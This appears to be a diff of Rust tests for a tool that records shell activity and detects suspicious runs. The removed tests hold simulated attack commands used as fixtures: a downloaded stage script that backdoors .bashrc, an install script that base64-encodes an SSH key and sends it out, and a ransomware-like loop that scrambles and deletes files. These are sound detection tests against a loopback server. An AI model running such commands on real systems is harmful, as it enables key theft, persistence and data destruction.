@@ -47,7 +47,8 @@ impl LoopbackServer {
         )
     }
 
-    fn end(self) {
+    /// Waits for all clients.
+    pub fn end(self) {
         self.takes.join().unwrap();
     }
 }
@@ -65,19 +66,10 @@ pub fn found(place: &Place, run: &str, rule: &str) -> Vec<Value> {
 }
 
 /// The targets of a finding's operations.
-fn targets(finding: &Value) -> Vec<&str> {
+pub fn targets(finding: &Value) -> Vec<&str> {
     let steps = finding["steps"].as_array().unwrap().iter();
     steps
         .map(|step| step["target"].as_str().unwrap_or(""))
-        .collect()
-}
-
-fn names(files: &Value) -> Vec<&str> {
-    files
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|file| file.as_str().unwrap())
         .collect()
 }
 
@@ -237,7 +229,8 @@ fn a_build_input_from_the_network_is_found_and_a_local_one_is_not() {
 /// An imitation of npm, which runs the script of a package.
 const NPM: &str = "#!/bin/sh\ncase $1 in install) sh package/postinstall.sh ;; esac\n";
 
-fn npm(place: &Place, script: &str) {
+/// Writes it, with a package that has this script.
+pub fn npm(place: &Place, script: &str) {
     std::fs::create_dir_all(place.work().join(".ssh")).unwrap();
     std::fs::create_dir_all(place.work().join("package")).unwrap();
     place.write(".ssh/id_ed25519", "secret\n");
@@ -357,191 +350,6 @@ fn a_checkout_that_removes_and_rewrites_many_files_is_no_storm_of_renames() {
 }
 
 #[test]
-fn a_backdoor_that_a_build_script_downloads_is_told_from_its_cause_to_its_extent() {
-    if !needs("a client", &["bash"]) {
-        return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(1, "echo 'alias sudo=x' >> .bashrc\ndate > marker\n");
-    let build = format!(
-        "echo building; {} > stage.sh\nsh stage.sh\n",
-        server.download()
-    );
-    place.write("build.sh", &build);
-    let run = place.record("sh build.sh");
-    server.end();
-    let all = found(&place, &run, "startup-file-written");
-    assert_eq!(all.len(), 1, "{all:?}");
-    let finding = &all[0];
-    assert_eq!(finding["cause_file"], place.path("stage.sh"));
-    assert_eq!(
-        finding["cause"]["argv"],
-        serde_json::json!(["sh", "stage.sh"])
-    );
-    let origin = finding["cause_origin"].as_str().unwrap();
-    assert!(origin.starts_with("tcp:127.0.0.1:"), "{origin}");
-    let changed = names(&finding["extent"]["changed"]);
-    assert_eq!(changed, [place.path(".bashrc"), place.path("marker")]);
-    assert_eq!(found(&place, &run, "download-run-by-shell").len(), 1);
-    let text = place.run(&["hunt", &run]).out;
-    for word in [
-        "HIGH",
-        "stage.sh",
-        "from tcp:127.0.0.1:",
-        ".bashrc",
-        "backstory of ",
-    ] {
-        assert!(text.contains(word), "no {word} in {text}");
-    }
-}
-
-#[test]
-fn a_theft_by_an_install_script_is_told_from_its_cause_to_its_extent() {
-    if !needs("a client", &["bash"]) {
-        return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(1, "");
-    let script = format!("cat .ssh/id_ed25519 | base64 | {}\n", server.upload());
-    npm(&place, &script);
-    let run = place.record("./npm install");
-    server.end();
-    let mut rules = Vec::new();
-    for finding in place.json(&["hunt", &run, "--json"]).as_array().unwrap() {
-        rules.push(finding["rule"].as_str().unwrap().to_owned());
-        if rules.last().unwrap() == "secret-sent" {
-            assert_eq!(
-                finding["cause_file"],
-                place.path("package/postinstall.sh"),
-                "{finding}"
-            );
-            let sent = names(&finding["extent"]["sent_to"]);
-            assert!(
-                sent.len() == 1 && sent[0].starts_with("tcp:127.0.0.1:"),
-                "{sent:?}"
-            );
-        }
-    }
-    // The most serious first.
-    assert_eq!(rules, ["install-script-reads-keys", "secret-sent"]);
-}
-
-#[test]
-fn a_storm_of_renames_is_told_from_its_cause_to_its_extent() {
-    let place = Place::new();
-    for number in 0..30 {
-        place.write(format!("doc{number}"), "mine\n");
-    }
-    place.write(
-        "lock.sh",
-        "for f in doc*; do tr a-z n-za-m < $f > $f.locked; rm $f; done; echo pay > README\n",
-    );
-    let run = place.record("sh lock.sh");
-    let all = found(&place, &run, "rename-storm");
-    assert_eq!(all.len(), 1, "{all:?}");
-    assert_eq!(all[0]["cause_file"], place.path("lock.sh"));
-    assert_eq!(names(&all[0]["extent"]["removed"]).len(), 30);
-    assert_eq!(names(&all[0]["extent"]["changed"]).len(), 31);
-}
-
-#[test]
-fn a_rule_of_the_user_runs_beside_one_that_does_not_compile() {
-    let place = Place::new();
-    place.write(
-        "rules.yml",
-        "title: A marker\nid: marker\nlevel: low\n\
-         detection:\n  made:\n    Operation: [write, make]\n    TargetFilename|endswith: /marker\n  \
-         condition: made\n---\n\
-         title: Broken\nid: broken\ndetection:\n  s:\n    Imag: x\n  condition: s\n",
-    );
-    let run = place.record("echo x > marker");
-    let answer = place.run(&["hunt", &run, "--rules", "rules.yml", "--json"]);
-    let mistake = "backstory: rule left out: rules.yml:14:5: unknown field `Imag`";
-    assert!(answer.err.starts_with(mistake), "{answer:?}");
-    assert!(
-        answer.status == 0 && answer.out.contains("\"marker\""),
-        "{answer:?}"
-    );
-    place
-        .run(&["hunt", "--rules", "nowhere"])
-        .is_error(2, &["cannot read rules from nowhere"]);
-    place
-        .run(&["hunt", "--rule", "nothing"])
-        .is_error(2, &["no rule is named nothing", "--list"]);
-}
-
-#[test]
-fn a_timeline_has_the_events_of_a_run_a_file_and_an_address_in_order() {
-    if !needs("a client", &["bash"]) {
-        return;
-    }
-    let place = Place::new();
-    let server = LoopbackServer::new(1, "x\n");
-    let first = place.record("echo x > a; mv a b");
-    let second = place.record(&format!("{} > c; cat b", server.download()));
-    let port = server.port.to_string();
-    server.end();
-    let words = |answer: &Value| -> Vec<(String, String)> {
-        let word = |event: &Value, key: &str| event[key].as_str().unwrap_or("").to_owned();
-        let all = answer.as_array().unwrap().iter();
-        all.map(|event| (word(event, "run"), word(event, "operation")))
-            .collect()
-    };
-    let of_file = words(&place.json(&["timeline", &place.path("b"), "--json"]));
-    let has = |run: &str, what: &str| of_file.contains(&(run.to_owned(), what.to_owned()));
-    assert!(has(&first, "rename") && has(&second, "read"), "{of_file:?}");
-    assert_eq!(of_file[0].0, first);
-    let of_peer = words(&place.json(&["timeline", &format!("127.0.0.1:{port}"), "--json"]));
-    assert!(
-        of_peer.contains(&(second.clone(), "receive".to_owned())),
-        "{of_peer:?}"
-    );
-    let text = place.run(&["timeline", &first]).out;
-    let at = |word: &str| {
-        text.find(word)
-            .unwrap_or_else(|| panic!("no {word} in {text}"))
-    };
-    assert!(at("write") < at("rename"), "{text}");
-    let csv = place.run(&["timeline", &first, "--csv"]).out;
-    assert!(
-        csv.starts_with("time,run,operation,target,source,certainty,pid,command\n"),
-        "{csv}"
-    );
-    let none = place.run(&["timeline", &first, "--to", "2001-01-01"]);
-    assert_eq!((none.status, none.out.as_str()), (1, "no events\n"));
-}
-
-#[test]
-fn a_time_and_a_host_choose_the_runs_that_are_looked_at() {
-    let place = Place::new();
-    let runs = [(); 2].map(|()| place.record("echo x >> .bashrc"));
-    let host = place.json(&["query", "--json", "SELECT host FROM runs LIMIT 1"]);
-    let host = host[0]["host"].as_str().unwrap().to_owned();
-    let looked = |arguments: &[&str]| {
-        let words = [
-            &["hunt", "--rule", "startup-file-written", "--json"],
-            arguments,
-        ]
-        .concat();
-        let found: Value = serde_json::from_str(&place.run(&words).out).unwrap();
-        let found = found.as_array().unwrap().iter();
-        found
-            .map(|one| one["run"].as_str().unwrap().to_owned())
-            .collect::<Vec<_>>()
-    };
-    let mut all = runs.to_vec();
-    all.reverse();
-    assert_eq!(looked(&["--since", "1 hour ago", "--host", &host]), all);
-    assert_eq!(looked(&["--host", "nowhere"]), [""; 0]);
-    assert_eq!(looked(&["--until", "1 hour ago"]), [""; 0]);
-    assert_eq!(
-        looked(&[&runs[0], "--since", "1 hour ago"]),
-        [runs[0].as_str()]
-    );
-    assert_eq!(looked(&[&runs[0], "--until", "1 hour ago"]), [""; 0]);
-}
-
-#[test]
 fn a_copy_of_an_output_that_was_changed_outside_does_not_explain_the_change() {
     let place = Place::new();
     let rule = "output-changed-outside";
@@ -558,62 +366,4 @@ fn a_copy_of_an_output_that_was_changed_outside_does_not_explain_the_change() {
     let run = place.record("cat out > copy");
     assert_eq!(place.run(&["index", "--wait"]).status, 0);
     assert_eq!(found(&place, &run, rule), [Value::Null; 0]);
-}
-
-/// The runs in which a rule finds something, of all runs. Each is there once.
-fn runs_found(place: &Place, rule: &str) -> Vec<String> {
-    let words = [
-        "hunt", "--all", "--rules", "rules", "--rule", rule, "--json",
-    ];
-    let answer = place.run(&words);
-    assert_eq!(answer.err, "");
-    let found: Vec<Value> = serde_json::from_str(&answer.out).unwrap();
-    let runs = found
-        .iter()
-        .map(|one| one["run"].as_str().unwrap().to_owned());
-    let mut runs: Vec<String> = runs.collect();
-    runs.sort();
-    runs.dedup();
-    runs
-}
-
-#[test]
-fn a_rule_about_contents_finds_the_run_that_changed_them() {
-    let place = Place::new();
-    if !place.has_inspector() {
-        return;
-    }
-    std::fs::create_dir(place.work().join("rules")).unwrap();
-    for (id, file, test) in [
-        ("setting", "out.toml", "ContentChange|contains: '`dt`'"),
-        ("changed", "out.toml", "ContentChange|exists: true"),
-        ("two-rows", "out.csv", "ContentFact: rows=2"),
-    ] {
-        place.write(
-            format!("rules/{id}.yml"),
-            &format!(
-                "title: t\nid: {id}\ndetection:\n  of:\n    Operation: write\n    \
-                 TargetFilename|endswith: /{file}\n    {test}\n  condition: of\n"
-            ),
-        );
-    }
-    let mut runs = Vec::new();
-    for (steps, dt, rows) in [
-        (10, "0.1", "1,2\n"),
-        (20, "0.1", "1,2\n3,4\n"),
-        (20, "0.01", ""),
-    ] {
-        place.write("in.toml", &format!("steps = {steps}\ndt = {dt}\n"));
-        place.write("in.csv", &format!("a,b\n{rows}"));
-        let script = "cat in.toml > out.toml; cat in.csv > out.csv; cp out.toml other.toml";
-        runs.push(place.keep(script, &["--contents=all"]));
-    }
-    assert_eq!(runs_found(&place, "setting"), [runs[2].clone()]);
-    let mut changed = runs[1..].to_vec();
-    changed.sort();
-    assert_eq!(runs_found(&place, "changed"), changed);
-    assert_eq!(runs_found(&place, "two-rows"), [runs[1].clone()]);
-    let message = "rule setting asks inspectors about contents";
-    let watched = ["record", "--watch", "rules", "--", "true"];
-    assert!(place.run(&watched).err.contains(message));
 }
